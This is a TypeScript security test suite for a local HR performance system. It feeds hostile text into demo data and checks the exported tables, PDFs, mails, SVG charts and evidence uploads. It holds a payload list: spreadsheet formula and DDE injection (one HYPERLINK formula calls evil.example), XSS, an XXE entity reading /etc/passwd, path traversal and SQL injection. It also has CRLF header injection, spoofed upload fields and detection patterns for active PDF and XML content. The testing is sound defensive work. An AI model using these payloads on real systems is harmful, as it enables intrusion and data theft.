/**
 * A region in which everything that somebody writes is hostile goes through the whole local system; then what comes out (tables, documents,
 * mails, images, evidence) is read with parsers, and compared with what was sent.
 */

import { createHash } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { XmlDocument, XmlElement } from 'xmldoc';
import { EXPORT_TABLES, type ExportTableName } from '../../../functions/domain/export/table.ts';
import { tidy } from '../../../functions/domain/text.ts';
import { CLOSED_QUARTER, DEMO_YEAR } from '../../../infra/local/demo/demo-year.ts';

import { loadDemo } from '../../../infra/local/demo/load-demo.ts';
import { people } from '../../../infra/local/demo/people.ts';
import { exampleQueries } from '../../../infra/local/example-queries.ts';
import { type Runtime, startRuntime } from '../../../infra/local/runtime.ts';
import { pdfPages } from '../../support/pdf-text.ts';
import { type Finding, finding } from '../finding.ts';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
  "+cmd|' /C calc'!A0",
  '-2+3;=1+1',
  '@SUM(1+1)',
  '＝1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</text></svg><svg onload=alert(1)>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  ']]><x/>&#60;b&#62;_x0041_',
  '../../etc/passwd',
  'C:\\x;"a","b"',
  "'; DROP TABLE staff; --",
  '😀👍 𝕏 مرحبا',
  '{{7*7}}$&%s%n',
  `panjang${'x'.repeat(60)}`,
];
/** What somebody writes; everything else of an input is a code, a day or a number. */
const WRITTEN =
  /^(?:name|title|position|mission|description|formula|source|note|text|texts|comment|reason|reasons|suggestion|place|explanation|explanations|goal|response)$/;

/** What was sent hostile, by its key. */
type Sent = ReadonlyMap<string, ReadonlySet<string>>;

/** Makes hostile what is sent to the endpoint, from now on. @returns what was sent, and how to stop */
function makeHostile(): { readonly sent: Sent; readonly stop: () => void } {
  const sent = new Map<string, Set<string>>();
  const send = globalThis.fetch;
  const change = (key: string, value: unknown): unknown => {
    if (typeof value === 'string' && WRITTEN.test(key) && / |^\p{Lu}\p{Ll}/u.test(value)) {
      // The same text is the same hostile text, so that an import that is repeated changes nothing.
      const at = createHash('sha256').update(value).digest().readUInt16BE() % PAYLOADS.length;
      const text = `${PAYLOADS[at]} ${value}`;
      const known = sent.get(key) ?? new Set();
      sent.set(key, known.add(tidy(text)));
      return text;
    }
    if (Array.isArray(value)) return value.map((each) => change(key, each));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, of]) => [name, change(name, of)]));
  };
  globalThis.fetch = (address, init) => {
    if (typeof init?.body !== 'string') return send(address, init);
    const { variables, ...rest }: { variables?: unknown } = JSON.parse(init.body);
    return send(address, { ...init, body: JSON.stringify({ ...rest, variables: change('', variables) }) });
  };
  return {
    sent,
    stop: () => {
      globalThis.fetch = send;
    },
  };
}

export async function hostileRegion(): Promise<readonly Finding[]> {
  const runtime = await startRuntime({ retryMilliseconds: 10 });
  try {
    const { sent, stop } = makeHostile();
    await loadDemo(runtime).finally(stop);
    const client = clientOf(runtime);
    return [
      await refusals(client),
      ...(await tables(client, sent)),
      await documents(client, sent),
      await mails(runtime),
      await images(runtime, client),
      await evidence(runtime, client),
    ];
  } finally {
    await runtime.close();
  }
}

type Who = { readonly username: string; readonly groups?: readonly string[] };
type Client = ReturnType<typeof clientOf>;
const OFFICE: Who = { username: 'demo-admin', groups: ['hr_admin', 'planner', 'auditor'] };
/** The same without the auditors' office, which may change nothing. */
const WRITERS: Who = { username: 'demo-admin', groups: ['hr_admin', 'planner'] };

interface Answer {
  readonly data?: Readonly<Record<string, unknown>> | null;
  readonly errors?: readonly unknown[];
}
interface Outcome {
  readonly job?: { readonly id: string } | null;
  readonly upload?: Ticket | null;
  readonly userErrors?: readonly { readonly code: string }[];
}
interface Ticket {
  readonly evidenceId: string;
  readonly url: string;
  readonly fields: readonly { readonly name: string; readonly value: string }[];
}

function clientOf(runtime: Runtime) {
  const ask = async (who: Who, query: string, variables: object = {}): Promise<Answer> => {
    const response = await fetch(runtime.graphqlUrl, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        authorization: `Bearer ${await runtime.tokens.mint(who)}`,
      },
      body: JSON.stringify({ query, variables }),
    });
    return JSON.parse(await response.text());
  };
  const change = async (
    who: Who,
    name: string,
    type: string,
    input: object,
    fields = '',
  ): Promise<Outcome> => {
    const query = `mutation M($i: ${type}!) { o: ${name}(input: $i) { ${fields} userErrors { code path } } }`;
    const { data, errors } = await ask(who, query, { i: input });
    if (data == null) throw new Error(`${name}: ${JSON.stringify(errors)}`);
    return Object(data['o']);
  };
  /** Asks for a file and waits until it is made. */
  const file = async (who: Who, name: string, type: string, input: object): Promise<Response> => {
    const { job, userErrors } = await change(who, name, type, input, 'job { id }');
    if (job == null) throw new Error(`${name} ${JSON.stringify(input)}: ${JSON.stringify(userErrors)}`);
    for (;;) {
      const { data } = await ask(who, 'query J($id: ID!) { job(id: $id) { state download { url } } }', job);
      const { state, download }: { state?: string; download?: { url: string } | null } = Object(
        data?.['job'],
      );
      if (download != null) return fetch(download.url);
      if (state !== 'WAITING' && state !== 'RUNNING')
        throw new Error(`${name} ${JSON.stringify(input)} ended ${state}`);
      await new Promise((settle) => setTimeout(settle, 50));
    }
  };
  return { ask, change, file };
}

/** What no reader sees, and what is too long, is refused where it is sent. */
async function refusals({ ask }: Client): Promise<Finding> {
  const [person] = people;
  const row = {
    nip: person?.nip,
    name: 'Budi',
    employment: 'PNS',
    unitCode: person?.unit,
    position: 'Kepala',
    jobGroup: 'a',
    from: '2025-01-01',
  };
  const texts = [
    'a\r\nBcc: b@example.id',
    'a\u0000b',
    '\u202egnp.exe',
    'a\u200bb',
    'a\u2028b',
    '\ud800',
    'x'.repeat(10_000),
  ];
  const tried = texts.flatMap((text) => [
    ['importStaff', 'ImportStaffInput', { ...row, name: text }] as const,
    ['importStaff', 'ImportStaffInput', { ...row, position: text }] as const,
    ['importStaff', 'ImportStaffInput', { ...row, email: `${text}@example.id` }] as const,
    ['importUnits', 'ImportUnitsInput', { code: 'X', name: text, kind: 'DINAS' }] as const,
    // A goal's title is a text of several lines.
    ...(text.includes('\r')
      ? []
      : [
          [
            'importGoals',
            'ImportGoalsInput',
            { code: 'X', title: text, fromYear: DEMO_YEAR, toYear: DEMO_YEAR },
          ] as const,
        ]),
  ]);
  const wrong: string[] = [];
  for (const [name, type, input] of tried) {
    const query = `mutation M($i: ${type}!) { o: ${name}(input: $i) { imported userErrors { code } } }`;
    const answer = JSON.stringify(await ask(WRITERS, query, { i: { rows: [input] } }));
    if (
      !/"code":"(?:INVALID_FORMAT|TOO_LONG|INVALID_ENCODING)"/.test(answer) ||
      /"imported":[1-9]/.test(answer)
    )
      wrong.push(`${name} ${JSON.stringify(input).slice(0, 200)}: ${answer.slice(0, 200)}`);
  }
  return finding(
    'whole region: what cannot be seen, or is too long',
    { count: tried.length, of: 'inputs' },
    'taken',
    wrong,
  );
}

const SIGN = /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;
const NUMBER = /^-?\d+(?:\.\d+)?$/;
/** A text without the apostrophes that keep it from being a formula. */
const bare = (text: string): string => text.replaceAll("'", '').replaceAll('\r\n', '\n');

async function tables({ ask, file }: Client, sent: Sent): Promise<readonly Finding[]> {
  const { data } = await ask(
    OFFICE,
    `{ programmes(from: "2020-01-01", first: 1) { nodes { id course { id } } }
      announcements(first: 1) { nodes { id } } surveyCampaigns(first: 1) { nodes { id } } staff(nip: "${people[0]?.nip}") { id } }`,
  );
  const programmes: { nodes: readonly { id: string; course: { id: string } }[] } = Object(
    data?.['programmes'],
  );
  const announcements: { nodes: readonly { id: string }[] } = Object(data?.['announcements']);
  const campaigns: { nodes: readonly { id: string }[] } = Object(data?.['surveyCampaigns']);
  const staff: { id: string } = Object(data?.['staff']);
  const [periodId, year, month] = [CLOSED_QUARTER, DEMO_YEAR, `${DEMO_YEAR}-04`];
  const of: Readonly<Partial<Record<ExportTableName, object>>> = {
    RESULTS: { periodId },
    UNIT_RESULTS: { periodId },
    RANKING: { periodId },
    CREDITS: { periodId },
    UNACKNOWLEDGED: { periodId },
    OBJECTIONS: { periodId },
    FOLLOW_UPS: { periodId },
    INDICATOR_REVIEWS: { periodId },
    PLANS: { year },
    AGREEMENTS: { year },
    REALISATIONS: { year },
    SURVEYS: { year },
    ACTIVITIES: { month },
    ALLOWANCES: { month },
    ATTENDANCE: { month },
    ENROLMENTS: { programmeId: programmes.nodes[0]?.id },
    TRAINING_CANDIDATES: { courseId: programmes.nodes[0]?.course.id, periodId },
    RATING_COMPLETION: { periodId },
    RATING_FLAGS: { periodId },
    CALIBRATION: { periodId },
    RATING_CHANGES: { periodId },
    PEER_PANELS: { periodId },
    LATE_CORRECTIONS: { periodId },
    PROGRESS: { year },
    UNIT_PROGRESS: { year },
    GOALS_NOT_TAKEN_UP: { year },
    ANNOUNCEMENT_READERS: { announcementId: announcements.nodes[0]?.id },
    AUDIT_TRAIL: { entity: `STAFF#${staff.id}` },
    TRAINING_NEEDS: { periodId },
    UNIT_INDICATORS: { periodId },
    GOAL_SERVICE: { year },
    SUGGESTIONS: { campaignId: campaigns.nodes[0]?.id },
  };
  const csvWrong: string[] = [];
  const xlsxWrong: string[] = [];
  const seen = new Set<string>();
  let cells = 0;
  for (const table of EXPORT_TABLES) {
    const made = (format: string) =>
      file(OFFICE, 'requestExport', 'ExportInput', { table, format, ...of[table] });
    const csvFile = await made('CSV');
    const csv = await csvFile.text();
    // Another number of cells in a row throws.
    const rows: string[][] = parse(csv, { bom: true });
    for (const cell of rows.flat()) {
      cells += 1;
      seen.add(bare(cell));
      if (SIGN.test(cell) && !NUMBER.test(cell)) csvWrong.push(`${table}: ${JSON.stringify(cell)}`);
    }
    const cut = csv
      .split(/[;\t\r\n]/)
      .find((each) => SIGN.test(each.replace(/^"/, '')) && !/^-?\d[\d.,-]*/.test(each));
    if (cut !== undefined) csvWrong.push(`${table}, cut elsewhere: ${JSON.stringify(cut.slice(0, 200))}`);
    csvWrong.push(...headersWrong(csvFile, 'text/csv; charset=utf-8').map((what) => `${table}: ${what}`));

    const xlsxFile = await made('XLSX');
    const parts = Object.entries(unzipSync(new Uint8Array(await xlsxFile.arrayBuffer())));
    for (const [name, bytes] of parts) {
      const foreign = strangers(
        strFromU8(bytes),
        /^(?:f|hyperlinks?|ddeLink|oleLinks?|externalReferences?|script|img)$/,
      );
      if (foreign !== null) xlsxWrong.push(`${table}: ${foreign} in ${name}`);
    }
    const sheet = parts.find(([name]) => name === 'xl/worksheets/sheet1.xml')?.[1] ?? new Uint8Array();
    const read = rowsOf(strFromU8(sheet));
    const wanted = rows.map((row) => row.filter((cell) => cell !== '').map(bare));
    const differing = wanted.findIndex(
      (row, at) => JSON.stringify(row) !== JSON.stringify(read[at]?.map(bare)),
    );
    if (differing !== -1 || read.length !== rows.length)
      xlsxWrong.push(
        `${table}: row ${differing} is ${JSON.stringify(read[differing])} and in CSV ${JSON.stringify(rows[differing])}`,
      );
  }
  const lost = ['name', 'title', 'position'].flatMap((key) =>
    [...(sent.get(key) ?? [])].filter((text) => ![...seen].some((cell) => cell.includes(bare(text)))),
  );
  const count = [...sent.values()].reduce((sum, texts) => sum + texts.size, 0);
  return [
    finding(
      'whole region: every table as CSV, parsed back',
      { count: cells, of: 'cells' },
      'formulas, torn rows',
      csvWrong,
      `${EXPORT_TABLES.length} tables, ${count} hostile texts of ${sent.size} kinds sent; ${lost.length} names and titles stand in no table`,
    ),
    finding(
      'whole region: the same as XLSX, parsed as XML',
      { count: EXPORT_TABLES.length, of: 'workbooks' },
      'formulas, elements, differences from CSV',
      xlsxWrong,
    ),
  ];
}

/** A file of ours is something to keep and never something to show. */
function headersWrong(response: Response, type: string): readonly string[] {
  const disposition = response.headers.get('content-disposition') ?? 'none';
  return [
    ...(response.status === 200 ? [] : [`status ${response.status}`]),
    ...(response.headers.get('content-type') === type ? [] : [`is ${response.headers.get('content-type')}`]),
    ...(/^attachment; filename="[\w.-]+"$/.test(disposition) ? [] : [`disposition ${disposition}`]),
  ];
}

const allOf = (element: XmlElement): readonly XmlElement[] => [
  element,
  ...element.children.flatMap((child) => (child instanceof XmlElement ? allOf(child) : [])),
];

/** An element, declaration or attribute that does something; null when it is XML without. */
function strangers(xml: string, names: RegExp): string | null {
  if (/<!(?:DOCTYPE|ENTITY)/.test(xml)) return 'a declaration';
  let root: XmlDocument;
  try {
    root = new XmlDocument(xml);
  } catch (error) {
    return error instanceof Error ? `no XML: ${error.message.split('\n')[0]}` : 'no XML';
  }
  for (const element of allOf(root)) {
    if (names.test(element.name)) return `<${element.name}>`;
    const active = Object.keys(element.attr).find((name) =>
      /^on|^(?:xlink:)?href$|^src$|^style$/i.test(name),
    );
    if (active !== undefined && !(active === 'style' && !/url|expression/i.test(element.attr['style'] ?? '')))
      return `<${element.name} ${active}>`;
  }
  return null;
}

/** A character by its code, as a text of a workbook may have it (ECMA-376 part 1, 22.9.2.19). */
const CODED = /_x([0-9A-Fa-f]{4})_/g;

/** Texts of the cells of a sheet that have any, row by row. */
const rowsOf = (sheet: string): readonly (readonly string[])[] =>
  allOf(new XmlDocument(sheet))
    .filter(({ name }) => name === 'row')
    .map((row) =>
      allOf(row)
        .filter(({ name }) => name === 't' || name === 'v')
        .map(({ val }) =>
          val.replaceAll(CODED, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16))),
        ),
    )
    .map((row) => row.filter((text) => text !== ''));

/** Documents of everybody in a unit: no action in any, the hostile name as text, and no path in the archive. */
async function documents({ ask, file }: Client, sent: Sent): Promise<Finding> {
  const { data } = await ask(OFFICE, '{ unit(code: "1.02.11") { id } }');
  const { id: unitId }: { id: string } = Object(data?.['unit']);
  const names = [...(sent.get('name') ?? [])].map(inPrint);
  const wrong: string[] = [];
  let count = 0;
  for (const input of [
    { kind: 'PLAN', unitId, year: DEMO_YEAR },
    { kind: 'EVALUATION', unitId, periodId: CLOSED_QUARTER },
  ]) {
    const archive = await file(OFFICE, 'requestUnitDocuments', 'UnitDocumentsInput', input);
    wrong.push(...headersWrong(archive, 'application/zip'));
    for (const [name, bytes] of Object.entries(unzipSync(new Uint8Array(await archive.arrayBuffer())))) {
      count += 1;
      if (!/^[\w-][\w.-]*\.pdf$/.test(name)) wrong.push(`a file called ${JSON.stringify(name)}`);
      const odd =
        /\/(?:URI|JavaScript|JS|Launch|OpenAction|AA|SubmitForm|EmbeddedFile|RichMedia|GoToR|XFA)\b/.exec(
          Buffer.from(bytes).toString('latin1'),
        )?.[0];
      if (odd !== undefined) wrong.push(`${name}: ${odd}`);
      const text = inPrint(pdfPages(bytes).join(''));
      if (!names.some((each) => text.includes(each))) wrong.push(`${name}: no name that was sent`);
    }
  }
  return finding(
    'whole region: documents of a unit as PDF',
    { count, of: 'documents' },
    'actions, paths, lost names',
    wrong,
  );
}

/** What a font without wide signs, pictures and Arabic can show, without the spaces of its lines. */
const inPrint = (text: string): string => text.replaceAll(/[^!-~]/g, '');

const OURS = /^<\/?(?:!doctype|html|meta|title|p|ul|li|a|hr|small|head|body)$/i;
const HEADERS = 'from, to, subject, x-kinerja-message, auto-submitted, mime-version, content-type';

/** Each mail read as a mail program does: no header but ours, one recipient, two parts, no element of somebody's making. */
async function mails({ sendMailsOnce, setClock, mailFolder }: Runtime): Promise<Finding> {
  // Tomorrow the day's digests are due, too.
  setClock(new Date(Date.now() + 30 * 3_600_000));
  await sendMailsOnce();
  setClock(null);
  const names = (await readdir(mailFolder)).filter((name) => name.endsWith('.eml'));
  // With few to read, nothing would be checked.
  const wrong: string[] = names.length < 10 ? [`only ${names.length} mails to read`] : [];
  for (const name of names) {
    const mail = await readFile(join(mailFolder, name), 'utf8');
    const [head = '', ...rest] = mail.split('\r\n\r\n');
    const headers = head.split('\r\n').map((line) => /^([\w-]+): (.*)$/.exec(line));
    const order = headers.map((each) => each?.[1]?.toLowerCase() ?? 'a line that is no header').join(', ');
    if (order !== HEADERS) wrong.push(`${name}: ${order}`);
    const field = (header: string) => headers.find((each) => each?.[1] === header)?.[2] ?? '';
    if (!/^[\w.-]+@[\w.-]+$/.test(field('To'))) wrong.push(`${name}: to ${field('To')}`);
    const encoded = /^=\?utf-8\?B\?([\w+/=]+)\?=$/.exec(field('Subject'))?.[1];
    const subject = Buffer.from(encoded ?? '', 'base64').toString('utf8');
    if (subject === '' || /\p{Cc}/u.test(subject)) wrong.push(`${name}: subject ${JSON.stringify(subject)}`);
    const [boundary = ''] = /(?<=boundary=")[^"]+/.exec(field('Content-Type')) ?? [];
    const parts = rest.join('\r\n\r\n').split(`--${boundary}`).slice(1, -1);
    if (parts.length !== 2) wrong.push(`${name}: ${parts.length} parts`);
    const html = Buffer.from(parts[1]?.split('\r\n\r\n')[1] ?? '', 'base64').toString('utf8');
    const element = html.match(/<\/?!?\w*/g)?.find((each) => !OURS.test(each));
    if (html === '' || element !== undefined) wrong.push(`${name}: ${element ?? 'nothing'} in its page`);
    if (/evil|alert\(|cmd\||DROP TABLE/.test(`${subject}${html}`)) wrong.push(`${name}: a hostile text`);
  }
  if (names.length === 0) wrong.push('there is no mail');
  return finding(
    'whole region: mails, parsed',
    { count: names.length, of: 'mails' },
    'headers, parts, elements',
    wrong,
  );
}

/** Every image that any of the explorer's queries gives to anybody: XML of drawing, and nothing else. */
async function images(runtime: Runtime, { ask, change }: Client): Promise<Finding> {
  const found = new Set<string>();
  const collect = (value: unknown): void => {
    if (typeof value === 'string' && /^\s*(?:<\?xml[^>]*>)?\s*<svg/.test(value)) found.add(value);
    else if (typeof value === 'object' && value !== null) Object.values(value).forEach(collect);
  };
  const personas = [...runtime.personas(), OFFICE];
  for (const { query, variables = '{}' } of exampleQueries.filter((each) => each.query.includes('svg')))
    for (const who of personas) collect(await ask(who, query, JSON.parse(variables)));
  const { data } = await ask(OFFICE, '{ units { id subtree { id } } }');
  const units: readonly { subtree: readonly { id: string }[] }[] = Object(data?.['units']);
  const chart = 'query C($i: ChartInput!) { chart(input: $i) { svg } }';
  for (const { id: unitId } of units.flatMap(({ subtree }) => subtree))
    for (const input of [
      { kind: 'UNIT_TREND', unitId },
      { kind: 'DISTRIBUTION', unitId, periodId: CLOSED_QUARTER },
      { kind: 'RANKING', unitId, periodId: CLOSED_QUARTER },
    ])
      collect(await ask(OFFICE, chart, { i: input }));
  for (const { username } of runtime.personas())
    if (username.startsWith('s-'))
      collect(await ask(OFFICE, chart, { i: { kind: 'STAFF_TREND', staffId: username } }));
  const nurse = runtime.personas()[0]?.username ?? '';
  collect(
    await change(
      OFFICE,
      'issueContactCodes',
      'IssueContactCodesInput',
      { staffId: nurse, periodId: `${DEMO_YEAR}-Q3`, instrumentId: 'berakhlak', count: 3 },
      'codes { svg } sheets',
    ),
  );
  const wrong: string[] = [];
  for (const svg of found) {
    const foreign = strangers(
      svg,
      /^(?!(?:svg|g|path|text|tspan|rect|circle|line|polyline|polygon|ellipse|title|desc|defs|style|clipPath|linearGradient|stop)$)/,
    );
    if (foreign !== null) wrong.push(`${foreign} in ${JSON.stringify(svg.slice(0, 160))}`);
  }
  const named = [...found].filter((svg) => /&lt;|HYPERLINK|DROP TABLE|etc\/passwd/.test(svg)).length;
  if (named === 0) wrong.push('no image holds a hostile text');
  return finding(
    'whole region: charts and sheets of codes, parsed as XML',
    { count: found.size, of: 'images' },
    'elements, attributes',
    wrong,
    `${named} of them show a hostile text`,
  );
}

const PAGE = '<!doctype html><script>alert(1)</script>';

/** Evidence that is not what it says, under names that are no names: kept as it was announced, and given to nobody to show. */
async function evidence(runtime: Runtime, { ask, change }: Client): Promise<Finding> {
  const nurse: Who = { username: runtime.personas()[0]?.username ?? '' };
  const { data } = await ask(
    nurse,
    `{ activities(filter: { staffId: "${nurse.username}", from: "${DEMO_YEAR}-01-01" }, first: 50) { nodes { id state } } }`,
  );
  const { nodes }: { nodes: readonly { id: string; state: string }[] } = Object(data?.['activities']);
  const target = { activityId: nodes.find(({ state }) => state === 'REPORTED' || state === 'RETURNED')?.id };
  const bytes = new TextEncoder().encode(PAGE);
  const announced = {
    target,
    size: bytes.length,
    sha256: createHash('sha256').update(bytes).digest('hex'),
  };
  const types = { PDF: 'application/pdf', PNG: 'image/png' } as const;
  const wrong: string[] = [];
  let tried = 0;
  const request = async (fileName: string, type: string) =>
    change(
      nurse,
      'requestEvidenceUpload',
      'RequestEvidenceUploadInput',
      { ...announced, fileName, type },
      'upload { evidenceId url fields { name value } }',
    );
  const post = async (
    { url, fields }: Ticket,
    changed: Readonly<Record<string, string>> = {},
    content = bytes,
  ) => {
    const form = new FormData();
    for (const { name, value } of fields) if (changed[name] !== '') form.set(name, changed[name] ?? value);
    for (const [name, value] of Object.entries(changed))
      if (value !== '' && !fields.some((each) => each.name === name)) form.set(name, value);
    form.set('file', new Blob([content], { type: 'text/html' }), '../../x.html');
    return (await fetch(url, { method: 'POST', body: form })).status;
  };
  for (const [type, contentType] of Object.entries(types))
    for (const fileName of [
      'a"; filename="b.html',
      '../../etc/passwd',
      'C:\\x.exe',
      '=1+1.pdf',
      '<svg onload=alert(1)>.pdf',
      "x';y",
    ]) {
      tried += 1;
      const { upload, userErrors } = await request(fileName, type);
      if (upload == null) {
        wrong.push(`${fileName}: ${JSON.stringify(userErrors)}`);
        continue;
      }
      const tricks: readonly (readonly [Record<string, string>, Uint8Array<ArrayBuffer>?])[] = [
        [{ 'Content-Type': 'text/html' }],
        [{ 'Content-Type': '' }],
        [{ 'Content-Disposition': 'inline' }],
        [{ key: 'evidence/x' }],
        [{ key: 'incoming/../evidence/x' }],
        [{ 'x-amz-meta-x': '1' }],
        [{ success_action_redirect: 'http://evil.example' }],
        [{}, new TextEncoder().encode(`${PAGE}${PAGE}`)],
      ];
      for (const [changed, content] of tricks) {
        tried += 1;
        const status = await post(upload, changed, content);
        if (status < 400) wrong.push(`an upload with ${JSON.stringify(changed)} was taken: ${status}`);
      }
      const status = await post(upload);
      if (status >= 300) wrong.push(`${fileName}: refused with ${status}`);
      await change(nurse, 'confirmEvidence', 'ConfirmEvidenceInput', {
        target,
        evidenceId: upload.evidenceId,
      });
      const { data: linked } = await ask(
        nurse,
        'query L($t: EvidenceTargetInput!, $e: ID!) { evidenceLink(target: $t, evidenceId: $e) { url fileName } }',
        { t: target, e: upload.evidenceId },
      );
      const link: { url?: string; fileName?: string } = Object(linked?.['evidenceLink']);
      const got = await fetch(link.url ?? '');
      wrong.push(...headersWrong(got, contentType).map((what) => `${fileName} as ${type}: ${what}`));
      if (link.fileName !== fileName) wrong.push(`${fileName} is told as ${link.fileName}`);
      if ((await got.text()) !== PAGE) wrong.push(`${fileName}: another content`);
      await change(nurse, 'removeEvidence', 'RemoveEvidenceInput', { target, evidenceId: upload.evidenceId });
    }
  return finding(
    'whole region: pages uploaded as PDF and PNG, names, forms that were changed',
    { count: tried, of: 'uploads' },
    'taken, shown, other types',
    wrong,
  );
}
